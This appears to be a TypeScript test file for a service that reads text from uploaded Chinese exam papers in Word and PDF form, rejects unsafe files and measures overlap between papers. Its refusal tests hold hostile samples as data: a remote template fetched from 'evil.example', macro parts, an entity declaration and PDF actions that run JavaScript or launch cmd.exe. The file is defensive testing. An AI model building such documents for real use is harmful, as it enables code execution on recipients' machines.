import fc from 'fast-check';
import { docx, pdf } from '../../testing/documents';
import { FEWEST_SAMPLES, samplesOf, shareOf, wordsOf } from './likeness.rules';
import { textOf } from './paper-text';

const LINES = ['一、填空题', '小明买了三本书，每本12元，一共（　）元。'];
const refused = (bytes: Buffer, kind: 'PDF' | 'DOCX') =>
  textOf(bytes, kind, 'paper').then(
    () => null,
    ({ code, message, detail }: { code: string; message: string; detail: { path: string } }) => `${code} ${detail.path} ${message}`,
  );

describe('what a paper says is read', () => {
  it('of a Word document and of a PDF', async () => {
    expect((await textOf(await docx(LINES), 'DOCX', 'paper')).text).toBe(`${LINES.join('\n')}\n`);
    const read = await textOf(pdf(LINES), 'PDF', 'paper');
    expect([wordsOf(read.text), read.pages]).toEqual([wordsOf(LINES.join('\n')), 1]);
  });

  it('also where formulas and pictures are embedded, and where a link stands in it', async () => {
    const rels = '<Relationships><Relationship Id="a" Type="http://x/hyperlink" Target="https://example.cn" TargetMode="External"/></Relationships>';
    const parts = { 'word/embeddings/oleObject1.bin': 'MathType', 'word/media/image1.png': 'x', 'word/_rels/document.xml.rels': rels };
    expect((await textOf(await docx(LINES, parts), 'DOCX', 'paper')).text).toContain('三本书');
  });
});

describe('a paper is refused', () => {
  const external = (type: string) =>
    `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
  it.each<[string, () => Promise<Buffer> | Buffer, 'PDF' | 'DOCX', RegExp]>([
    ['with macros', () => docx(LINES, { 'word/vbaProject.bin': 'x' }), 'DOCX', /UNSAFE paper 文件里含有宏/],
    [
      'that is a document with macros under another name',
      () => docx(LINES, { '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }),
      'DOCX',
      /UNSAFE paper 文件里含有宏/,
    ],
    [
      'that fetches its template from elsewhere',
      () => docx(LINES, { 'word/_rels/settings.xml.rels': external('attachedTemplate') }),
      'DOCX',
      /UNSAFE.*别处读取/,
    ],
    ['with an entity bomb', () => docx(LINES, { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>' }), 'DOCX', /UNSAFE/],
    ['that is a zip of something else', () => docx(LINES, { '[Content_Types].xml': 'no xml at all' }), 'DOCX', /UNREADABLE/],
    ['that was cut off', async () => (await docx(LINES)).subarray(0, 300), 'DOCX', /UNREADABLE/],
    ['that only begins like a PDF', () => Buffer.from('%PDF-1.7\n<html>这不是 PDF</html>'), 'PDF', /UNREADABLE.*不是完整的 PDF/],
    ['with a script', () => pdf(LINES, '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'PDF', /UNSAFE.*脚本/],
    ['that starts a program', () => pdf(LINES, '/OpenAction << /S /Launch /F (cmd.exe) >>'), 'PDF', /UNSAFE.*启动程序/],
  ])('%s', async (_title, make, kind, expected) => {
    expect(await refused(await make(), kind)).toMatch(expected);
  });
});

describe('how much of a paper stands in another', () => {
  const QUESTION = fc
    .array(fc.integer({ min: 0x4e00, max: 0x4fff }), { minLength: 40, maxLength: 60 })
    .map((letters) => String.fromCodePoint(...letters));
  const PAPER = fc.array(QUESTION, { minLength: 60, maxLength: 60 });
  const SEED = 20261127;
  const share = (one: string[], other: string[]) => {
    const [samples, theirs] = [samplesOf(wordsOf(one.join('\n')), SEED), new Set(samplesOf(wordsOf(other.join('\n')), SEED))];
    return shareOf(samples.filter((sample) => theirs.has(sample)).length, samples.length);
  };

  it('is all of it for the same text in another order, with other numbers, blanks and widths', () => {
    const numbered = (paper: string[], n: number) => paper.map((question, i) => `${i + n}. ${question} 共 ${n * 7} 元`);
    fc.assert(
      fc.property(PAPER, (paper) => {
        const again = numbered(paper, 3).map((line) => line.replace(/ /g, '　').replace('共', ' 共'));
        expect(share(numbered(paper, 1), again)).toBe(1);
        expect(share(paper, [...paper].reverse())).toBeGreaterThan(0.75);
      }),
      { numRuns: 20 },
    );
  });

  it('is about half for half of its questions, and nothing for another paper', () => {
    fc.assert(
      fc.property(PAPER, PAPER, (paper, other) => {
        expect(share([...paper.slice(0, 30), ...other.slice(0, 30)], paper)).toBeGreaterThan(0.3);
        expect(share([...paper.slice(0, 30), ...other.slice(0, 30)], paper)).toBeLessThan(0.75);
        expect(share(paper, other)).toBeNull();
      }),
      { numRuns: 20 },
    );
  });

  it('cannot be tried out by who does not know the seed', () => {
    const words = wordsOf(Array.from({ length: 3000 }, (_, i) => String.fromCodePoint(0x4e00 + ((i * i * 7) % 3000))).join(''));
    const [mine, guessed] = [samplesOf(words, 1), new Set(samplesOf(words, 2))];
    expect(mine.length).toBeGreaterThan(FEWEST_SAMPLES);
    expect(mine.filter((sample) => guessed.has(sample))).toEqual([]);
  });
});
